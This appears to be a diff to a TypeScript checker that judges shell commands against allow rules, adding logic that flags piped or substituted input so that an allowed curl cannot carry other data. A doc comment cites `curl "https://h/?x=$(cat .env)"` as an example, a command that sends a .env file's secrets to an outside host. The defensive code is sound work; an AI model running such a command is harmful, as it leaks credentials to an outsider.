@@ -2,7 +2,7 @@ import { defaultOrigin } from "../../codes/origin.ts";
 import type { CompiledRule, CompiledRules } from "../compile-rules.ts";
 import { changesWhatRuns } from "../loader-variables.ts";
 import type { PathWorld } from "../paths.ts";
-import type { CommandLine, InnerCommands, ShellCommand } from "./command-line.ts";
+import { type CommandLine, type InnerCommands, type ShellCommand, UNKNOWN_TEXT } from "./command-line.ts";
 import { meansCommand } from "./command-pattern.ts";
 import { coverCommand, reachOf } from "./cover-command.ts";
 import { asking, byRule, type Finding, showCommand } from "./finding.ts";
@@ -190,6 +190,34 @@ function judgeCover(command: ShellCommand, allows: readonly CompiledRule[]): Fin
   const cover = coverCommand(command, allows);
   if (!cover.covered) return asking(part, cover.code, `${JSON.stringify(part)}: ${cover.text}`);
   return cover.rule === null ? { ...nothingRuns, part } : byRule(part, "allow", cover.rule);
+}
+
+/**
+ * Something that needs more than these rules gets what other commands print, through a pipe or as its own words: a rule
+ * for `curl` says nothing about files that are read for it, as in `curl "https://h/?x=$(cat .env)"`.
+ */
+export function takesFromOthers({ commands }: CommandLine, allows: readonly CompiledRule[]): boolean {
+  const isCarried = commands.some((command) => takesInput(command) || (command.captured && !printsOwnText(command)));
+  return commands.some(
+    (command) => (command.piped || (isCarried && hasUnknown(command))) && !coverCommand(command, allows).covered,
+  );
+}
+
+function hasUnknown({ words, assignments, redirections }: ShellCommand): boolean {
+  const texts = [...words, ...assignments.map(({ value }) => value), ...redirections.map(({ target }) => target)];
+  return texts.some(({ text }) => text.includes(UNKNOWN_TEXT));
+}
+
+/** Puts what it reads into variables. */
+function takesInput({ words: [name] }: ShellCommand): boolean {
+  return /^(?:read|mapfile|readarray)$/.test(name?.text ?? "");
+}
+
+/** What it prints stands in the line itself: `$(cat <<'EOF' …)`. */
+function printsOwnText({ words, redirections, piped }: ShellCommand): boolean {
+  const isStated = [...words, ...redirections.map(({ target }) => target)].every(({ isStatic }) => isStatic);
+  const reads = redirections.some(({ effect }) => effect === "read") || (words.length > 1 && words[0]?.text === "cat");
+  return !piped && isStated && !reads && /^(?:echo|printf|cat)$/.test(words[0]?.text ?? "");
 }
 
 /** A loop sets its variable as an assignment does. */
